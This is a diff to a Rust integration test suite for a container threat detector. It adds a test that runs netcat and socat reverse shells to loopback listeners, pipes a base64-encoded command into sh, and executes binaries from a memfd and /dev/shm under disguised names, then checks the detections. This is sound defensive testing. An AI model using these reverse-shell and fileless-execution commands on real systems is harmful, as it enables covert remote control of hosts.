@@ -692,12 +692,19 @@ fn attacks_inside_a_real_container() {
         .status
         .success());
 
-    // A compiler pipeline: one finding for gcc, none for cc1/as/collect2/ld.
+    // A compiler pipeline: one finding for gcc, none for cc1/as/collect2/ld. The container's
+    // /tmp shows the host's, so the paths are unique to this run.
+    let cc_src = format!("/tmp/shrike-live-{}.c", std::process::id());
+    let cc_out = format!("/tmp/shrike-live-{}", std::process::id());
     assert!(c
-        .exec(&["sh", "-c", "echo 'int main(void){return 0;}' > /tmp/x.c"])
+        .exec(&[
+            "sh",
+            "-c",
+            &format!("echo 'int main(void){{return 0;}}' > {cc_src}")
+        ])
         .status
         .success());
-    let gcc = c.exec(&["gcc", "-o", "/tmp/x", "/tmp/x.c"]);
+    let gcc = c.exec(&["gcc", "-o", &cc_out, &cc_src]);
     assert!(
         gcc.status.success(),
         "{}",
@@ -855,7 +862,7 @@ fn attacks_inside_a_real_container() {
     assert_eq!(f["finding"]["severity"], "LOW");
     assert_eq!(
         f["finding"]["processes"][0]["args"],
-        serde_json::json!(["gcc", "-o", "/tmp/x", "/tmp/x.c"])
+        serde_json::json!(["gcc", "-o", cc_out, cc_src])
     );
     assert_container_fields(f, &c);
 
@@ -896,8 +903,31 @@ fn attacks_inside_a_real_container() {
         .unwrap()
         .contains("json.dumps"));
 
+    // The copied tool (upper layer) and the overwritten image binary (copied up) are also
+    // added binaries; nothing else is.
+    let added = in_container(&stopped, "ADDED_BINARY_EXECUTED", &c);
+    let mut layers: Vec<(&str, &str)> = added
+        .iter()
+        .map(|f| {
+            assert_container_fields(f, &c);
+            (
+                f["finding"]["processes"][0]["binary"]["path"]
+                    .as_str()
+                    .unwrap(),
+                f["finding"]["sourceProperties"]["Binary_Layer"]
+                    .as_str()
+                    .unwrap(),
+            )
+        })
+        .collect();
+    layers.sort_unstable();
+    let mut want = vec![("/tmp/added-tool", "upper"), (victim_path, "copied_up")];
+    want.sort_unstable();
+    assert_eq!(layers, want);
+
     // Nothing else: the benign copies, pipelines and Python script reported nothing.
-    let total = in_container(&stopped, "BUILT_IN_MALICIOUS_BINARY_EXECUTED", &c).len()
+    let total = added.len()
+        + in_container(&stopped, "BUILT_IN_MALICIOUS_BINARY_EXECUTED", &c).len()
         + in_container(&stopped, "ADDED_MALICIOUS_BINARY_EXECUTED", &c).len()
         + in_container(&stopped, "MODIFIED_MALICIOUS_BINARY_EXECUTED", &c).len()
         + compilers.len()
@@ -1155,6 +1185,169 @@ fn tool_escape_and_secret_search_patterns_inside_a_real_container() {
         })
         .count();
     assert_eq!(all_in_container, 8, "{:#?}", stopped.findings);
+    drop(c);
+}
+
+/// Shells and payloads delivered the ways attackers do it, for real, on loopback: a netcat
+/// (`busybox nc -e`) and a socat (`EXEC:…,pty`) reverse shell to listeners of this test, a
+/// base64-encoded shell command piped into `sh`, a program run from a memfd and from /dev/shm,
+/// a shell started by a process called gunicorn, and a binary copied into the container and run.
+/// Look-alikes (a plain netcat port check, a socat relay, base64 data, a shell under an
+/// entrypoint) report nothing.
+#[test]
+fn shells_payloads_and_fileless_execution_inside_a_real_container() {
+    if !live_allowed("shells_payloads_and_fileless_execution_inside_a_real_container") {
+        return;
+    }
+    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let image_dir = tempfile::Builder::new()
+        .prefix("shrike-live-image-")
+        .tempdir_in("/opt")
+        .unwrap();
+    let gunicorn = image_dir.path().join("gunicorn");
+    std::os::unix::fs::symlink("/usr/bin/python3", &gunicorn).unwrap();
+    let gunicorn = gunicorn.to_str().unwrap().to_owned();
+
+    let watch = Watch::start(&[]);
+    let c = TestContainer::start("api", "registry.example.com/shop/api:5");
+    // A reverse shell to `listener` through `argv`; the test types a command into it.
+    let shell_through = |argv: &[&str], listener: &TcpListener| {
+        let mut child = c.spawn(argv);
+        let (mut conn, _) = listener.accept().unwrap();
+        conn.set_read_timeout(Some(Duration::from_secs(10)))
+            .unwrap();
+        conn.write_all(b"echo shrike-$((6*7))\nexit\n").unwrap();
+        let mut out = String::new();
+        let _ = conn.read_to_string(&mut out);
+        assert!(out.contains("shrike-42"), "{argv:?}: {out}");
+        drop(conn);
+        let _ = child.wait();
+    };
+    let nc_listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let nc_port = nc_listener.local_addr().unwrap().port().to_string();
+    shell_through(
+        &["busybox", "nc", "127.0.0.1", &nc_port, "-e", "/bin/sh"],
+        &nc_listener,
+    );
+    let socat_listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let socat_address = format!(
+        "TCP:127.0.0.1:{}",
+        socat_listener.local_addr().unwrap().port()
+    );
+    shell_through(
+        &["socat", &socat_address, "EXEC:/bin/sh,pty,stderr"],
+        &socat_listener,
+    );
+    // `/bin/sh -c 'echo shrike-b64'`, base64-encoded and piped into sh.
+    let encoded = "L2Jpbi9zaCAtYyAnZWNobyBzaHJpa2UtYjY0Jwo=";
+    let out = c.exec(&["sh", "-c", &format!("echo {encoded} | base64 -d | sh")]);
+    assert!(
+        String::from_utf8_lossy(&out.stdout).contains("shrike-b64"),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let memfd = "import os; fd = os.memfd_create('payload'); \
+                 os.write(fd, open('/usr/bin/true', 'rb').read()); \
+                 os.execv(f'/proc/self/fd/{fd}', ['kworker'])";
+    assert!(c.exec(&["/usr/bin/python3", "-c", memfd]).status.success());
+    assert!(c
+        .exec(&["sh", "-c", "cp /usr/bin/true /dev/shm/.u && /dev/shm/.u"])
+        .status
+        .success());
+    assert!(c
+        .exec(&[&gunicorn, "-c", "import os; os.system('true')"])
+        .status
+        .success());
+    assert!(c
+        .exec(&["sh", "-c", "cp /usr/bin/true /tmp/helper && /tmp/helper"])
+        .status
+        .success());
+    // Look-alikes.
+    let closed = TcpListener::bind("127.0.0.1:0").unwrap();
+    let closed_port = closed.local_addr().unwrap().port().to_string();
+    drop(closed);
+    c.exec(&["busybox", "nc", "-w", "1", "127.0.0.1", &closed_port]);
+    c.exec(&[
+        "socat",
+        "-T",
+        "1",
+        "OPEN:/dev/null",
+        &format!("TCP:127.0.0.1:{closed_port}"),
+    ]);
+    c.exec(&[
+        "sh",
+        "-c",
+        "echo eyJ1c2VyIjoiYXBwIiwicm9sZSI6InJlYWRlciIsInRlYW0iOiJwYXltZW50cyJ9 | base64 -d",
+    ]);
+    c.exec(&["sh", "-c", "sh -c 'echo entrypoint'"]);
+    let stopped = watch.stop();
+
+    let one = |module: &str| -> Value {
+        let hits = in_container(&stopped, module, &c);
+        assert_eq!(hits.len(), 1, "{module}: {hits:#?}");
+        assert_container_fields(hits[0], &c);
+        hits[0]["finding"]["sourceProperties"].clone()
+    };
+    let nc = one("NETCAT_REMOTE_CODE_EXECUTION_IN_CONTAINER");
+    assert_eq!(nc["Netcat_Exec"], "/bin/sh");
+    assert_eq!(nc["Netcat_Mode"], "connect");
+    let socat = one("SOCAT_REVERSE_SHELL_DETECTED");
+    assert_eq!(socat["Socat_Network_Address"], socat_address.as_str());
+    assert_eq!(socat["Socat_Exec_Address"], "EXEC:/bin/sh,pty,stderr");
+    let b64 = one("BASE64_ENCODED_SHELL_SCRIPT_EXECUTED");
+    assert_eq!(b64["Encoded_Snippet"], encoded);
+    assert!(b64["Decoded_Preview"]
+        .as_str()
+        .unwrap()
+        .starts_with("/bin/sh -c 'echo shrike-b64'"));
+    assert_eq!(
+        one("FILELESS_EXECUTION_DETECTION_MEMFD")["Memfd_Name"],
+        "payload"
+    );
+    assert_eq!(
+        one("FILELESS_EXECUTION_DETECTION_SHM")["Binary_Path"],
+        "/dev/shm/.u"
+    );
+    let child = one("UNEXPECTED_CHILD_SHELL");
+    assert_eq!(child["Parent_Binary"], "/usr/bin/python3.11");
+    let added = one("ADDED_BINARY_EXECUTED");
+    assert_eq!(added["Binary_Layer"], "upper");
+
+    // The shell netcat started has the connection on its stdin: a Reverse Shell too (socat's
+    // has a pty, which is why its own finding exists).
+    let reverse = in_container(&stopped, "REVERSE_SHELL", &c);
+    assert_eq!(reverse.len(), 1, "{reverse:#?}");
+    assert_eq!(
+        reverse[0]["finding"]["sourceProperties"]["Reverse_Shell_Stdin_Redirection_Dst_Port"]
+            .to_string(),
+        nc_port
+    );
+
+    // Nothing else, except what the Python model makes of the two one-liners.
+    let others: Vec<&Value> = stopped
+        .findings
+        .iter()
+        .filter(|f| {
+            f["resource"]["name"]
+                .as_str()
+                .is_some_and(|n| n.ends_with(c.id()))
+        })
+        .filter(|f| {
+            ![
+                "NETCAT_REMOTE_CODE_EXECUTION_IN_CONTAINER",
+                "SOCAT_REVERSE_SHELL_DETECTED",
+                "BASE64_ENCODED_SHELL_SCRIPT_EXECUTED",
+                "FILELESS_EXECUTION_DETECTION_MEMFD",
+                "FILELESS_EXECUTION_DETECTION_SHM",
+                "UNEXPECTED_CHILD_SHELL",
+                "ADDED_BINARY_EXECUTED",
+                "REVERSE_SHELL",
+                "MALICIOUS_PYTHON_EXECUTED",
+            ]
+            .contains(&f["finding"]["moduleName"].as_str().unwrap_or(""))
+        })
+        .collect();
+    assert!(others.is_empty(), "{others:#?}");
     drop(c);
 }
 
